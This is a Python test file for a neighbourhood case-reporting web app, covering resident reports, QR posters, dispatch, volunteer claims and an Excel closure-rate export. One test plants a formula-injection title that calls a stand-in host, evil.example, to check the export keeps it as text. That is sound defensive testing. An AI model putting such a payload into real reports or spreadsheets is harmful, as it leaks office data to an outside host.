"""The cases pages through the test client: the resident's form and receipt, the
report posters, the dispatch board and case page, the 办结率 page and its Excel."""

from __future__ import annotations

import io
import re

from tests.cases.cases_support import case_rules, new_report, report_code, step
from tests.helpers import db_dump


def receipt_of(resp) -> str:
    return re.search(r"/r/receipt/([0-9A-Z-]+)", resp.headers["Location"]).group(1)


def test_a_resident_reports_on_the_form_and_follows_the_receipt(office_web, api, web):
    code = report_code(api)
    page = web.get(f"/r/{code}")
    assert page.status_code == 200 and "一网格" in web.last_html and "道路设施" in web.last_html
    resp = web.post(f"/r/{code}", {"category": "road", "title": "三楼楼道灯不亮",
                                   "detail": "好几天了", "name": "王阿姨",
                                   "phone": "13900000000"})
    assert resp.status_code == 303
    receipt = receipt_of(resp)
    shown = web.get(resp.headers["Location"])
    assert shown.status_code == 200 and receipt in web.last_html
    assert "三楼楼道灯不亮" in web.last_html and "rate-form" not in web.last_html
    assert "王阿姨" not in web.last_html  # the receipt page shows nothing about people
    board = office_web.get("/admin/cases")
    assert board.status_code == 200 and "三楼楼道灯不亮" in office_web.last_html


def test_bad_codes_missing_titles_and_receipts_get_clear_pages(office_web, api, web, data_dir):
    old = report_code(api)
    code = report_code(api)
    before = db_dump(data_dir)
    for path in (f"/r/{old}", "/r/NOSUCHCODE"):
        resp = web.get(path)
        assert resp.status_code == 404 and "data-status=\"404\"" in web.last_html
    web.get(f"/r/{code}")
    resp = web.post(f"/r/{code}", {"category": "road", "title": ""})
    assert resp.status_code == 400 and 'role="alert"' in web.last_html
    resp = web.post(f"/r/{code}", {"category": "road", "title": "x"}, csrf="forged")
    assert resp.status_code == 403
    assert web.get("/r/receipt/AAAA-BBBB").status_code == 404
    assert db_dump(data_dir) == before


def test_the_office_assigns_and_cancels_on_the_board(office_web, api):
    code = report_code(api)
    case_id, _ = new_report(api, code, title="井盖松动")
    office_web.get("/admin/cases")
    resp = office_web.post(f"/admin/cases/{case_id}/assign",
                           {"assignee": "w1", "difficulty": "2", "due": "2030-01-31",
                            "back": "board"})
    assert resp.status_code == 303
    f = api.ok(api.get(f"/cases/{case_id}"))["fields"]
    assert (f["status"], f["assignee"], f["difficulty"]) == ("assigned", "w1", 2)
    assert f["due_at"] == "2030-01-31T15:59:59Z"  # end of that day in Asia/Shanghai
    page = office_web.get(f"/admin/cases/{case_id}")
    assert page.status_code == 200 and 'id="history"' in office_web.last_html
    resp = office_web.post(f"/admin/cases/{case_id}/assign", {"assignee": "w2"})
    assert resp.status_code == 400 and 'role="alert"' in office_web.last_html
    resp = office_web.post(f"/admin/cases/{case_id}/cancel", {"reason": "重复上报"})
    assert resp.status_code == 200
    assert api.ok(api.get(f"/cases/{case_id}"))["fields"]["status"] == "cancelled"
    resp = office_web.post(f"/admin/cases/{case_id}/cancel", {"reason": "again"},
                           page=f"/admin/cases/{case_id}")
    assert resp.status_code == 409
    assert office_web.get("/admin/cases/nope").status_code == 404


def test_posters_make_and_show_a_code(office_web, api):
    office_web.get("/admin/posters")
    assert "一网格" in office_web.last_html
    resp = office_web.post("/admin/grids/g1/poster", {})
    assert resp.status_code == 303
    page = office_web.get("/admin/grids/g1/poster")
    assert "扫码反映问题" in office_web.last_html and "<svg" in office_web.last_html
    code = re.search(r"/r/([0-9A-Z]{12})<", office_web.last_html).group(1)
    assert page.status_code == 200
    assert api.client.post("/api/v1/public/reports", json={
        "code": code, "category": "road", "title": "x"}).status_code == 201


def test_poster_warns_when_there_are_no_case_categories(office_web, api):
    """With no case categories the poster's QR opens 'reporting is not open yet': the
    poster page says so and links to the rules page where they are added."""
    office_web.post("/admin/grids/g1/poster", {})
    office_web.get("/admin/grids/g1/poster")
    assert 'id="poster-no-categories"' not in office_web.last_html
    rules = api.ok(api.get("/rules"))
    api.ok(api.put("/rules", {k: rules[k] for k in ("activities", "daily_cap", "timezone")}))
    office_web.get("/admin/grids/g1/poster")
    warning = re.search(r'id="poster-no-categories">(.*?)</p>', office_web.last_html).group(1)
    assert "还没有问题分类" in warning and 'href="/admin/rules#case-rules"' in warning


def test_closure_rate_page_and_excel(office_web, api):
    from openpyxl import load_workbook

    code = report_code(api)
    a, _ = new_report(api, code)
    new_report(api, code, category="noise")
    api.ok(api.post(f"/cases/{a}/cancel", {"reason": "重复"}))
    page = office_web.get("/admin/reports/cases?grid=c1")
    assert page.status_code == 200 and office_web.last_html.count("<svg") >= 4
    assert 'id="t-received"' in office_web.last_html
    resp = office_web.client.get("/admin/reports/cases.xlsx?grid=c1")
    assert resp.status_code == 200 and resp.mimetype.endswith("spreadsheetml.sheet")
    wb = load_workbook(io.BytesIO(resp.data))
    summary, categories, cases = wb.worksheets
    total = [row for row in summary.iter_rows(values_only=True)][-1]
    assert total[1:4] == (2, 0, 1)  # received, closed, cancelled
    assert cases.max_row == 3  # header + two cases
    assert office_web.get("/admin/reports/cases?grid=nope").status_code == 404


def test_case_pages_are_for_admins(v1_web, web):
    assert v1_web.get("/admin/cases").status_code == 403
    assert web.get("/admin/reports/cases").status_code == 302


def test_a_volunteer_claims_a_wish_on_their_page(app, api, web_world, v1_web):
    case_rules(api)
    w1 = web_world["w1"]
    wish = w1.change("cases", {"grid": "g1", "kind": "wish", "category": "elderly",
                               "title": "帮独居老人买菜", "reporter_name": "李奶奶",
                               "reporter_phone": "13700000000"})
    assert w1.sync([wish])["results"][0]["status"] == "applied"
    page = v1_web.get("/me")
    assert page.status_code == 200 and f'id="wish-{wish["id"]}"' in v1_web.last_html
    assert "李奶奶" not in v1_web.last_html and "13700000000" not in v1_web.last_html
    resp = v1_web.post(f"/me/wishes/{wish['id']}/claim", {"version": "1"}, page="/me")
    assert resp.status_code == 303
    f = api.ok(api.get(f"/cases/{wish['id']}"))["fields"]
    assert (f["status"], f["assignee"]) == ("assigned", "v1")
    v1_web.get("/me")
    assert f'id="mine-{wish["id"]}"' in v1_web.last_html and "13700000000" in v1_web.last_html
    # claimed already (or changed since the page was shown): a clear page, nothing changed
    resp = v1_web.post(f"/me/wishes/{wish['id']}/claim", {"version": "1"}, page="/me")
    assert resp.status_code == 409
    assert v1_web.post("/me/wishes/nope/claim", {"version": "1"}, page="/me").status_code == 404
    # another grid's wish is unknown whatever the version (it was 409 for a wrong one)
    w2 = api.enroll("w2")
    theirs = w2.change("cases", {"grid": "g2", "kind": "wish", "category": "elderly",
                                 "title": "别的网格"})
    assert w2.sync([theirs])["results"][0]["status"] == "applied"
    for version in ("1", "9"):
        resp = v1_web.post(f"/me/wishes/{theirs['id']}/claim", {"version": version}, page="/me")
        assert resp.status_code == 404


def test_a_reported_formula_stays_text_in_the_case_export(office_web, api):
    from openpyxl import load_workbook

    """A resident's title (or a resolution) starting with "=" would otherwise be written
    as a formula and run in the office's Excel."""
    code = report_code(api)
    evil = '=HYPERLINK("http://evil.example/?"&A2,"点我")'
    case_id, _ = new_report(api, code, title=evil)
    api.ok(api.post(f"/cases/{case_id}/cancel", {"reason": "=1+1"}))
    resp = office_web.client.get("/admin/reports/cases.xlsx?grid=c1")
    assert resp.status_code == 200
    cases = load_workbook(io.BytesIO(resp.data)).worksheets[2]
    cells = [c for row in cases.iter_rows(min_row=2) for c in row]
    assert {c.value for c in cells if c.data_type == "f"} == set()
    assert evil in {c.value for c in cells} and "=1+1" in {c.value for c in cells}


def test_a_due_date_at_the_edge_of_the_calendar_gets_a_clear_page(office_web, api, data_dir):
    """9999-12-31 has no next day and 0001-01-01 no UTC time before it: a clear 400,
    nothing changed (before, an internal error)."""
    code = report_code(api)
    case_id, _ = new_report(api, code)
    office_web.get(f"/admin/cases/{case_id}")
    before = db_dump(data_dir, skip=("rate_limits",))
    for due in ("9999-12-31", "0001-01-01"):
        resp = office_web.post(f"/admin/cases/{case_id}/assign",
                               {"assignee": "w1", "due": due}, page=f"/admin/cases/{case_id}")
        assert resp.status_code == 400 and 'role="alert"' in office_web.last_html, due
    assert db_dump(data_dir, skip=("rate_limits",)) == before


def test_a_finished_case_is_not_called_closed_before_the_resident_rates_it(office_web, api, web):
    """办结 is the closing (after the rating or a worker's confirmation); a case the
    assignee has finished is 处理完毕, with its own time, until then."""
    case_id, receipt = new_report(api, report_code(api), category="road", title="路灯不亮")
    v1 = api.enroll("v1")
    api.ok(api.post(f"/cases/{case_id}/assign", {"assignee": "v1", "difficulty": 1}))
    assert step(v1, case_id, 2, status="accepted")["status"] == "applied"
    assert step(v1, case_id, 3, status="done", resolution="已更换灯泡")["status"] == "applied"
    assert web.get(f"/r/receipt/{receipt}").status_code == 200
    assert "处理完成时间" in web.last_html and "已完成，待评价" in web.last_html
    assert "办结" not in web.last_html
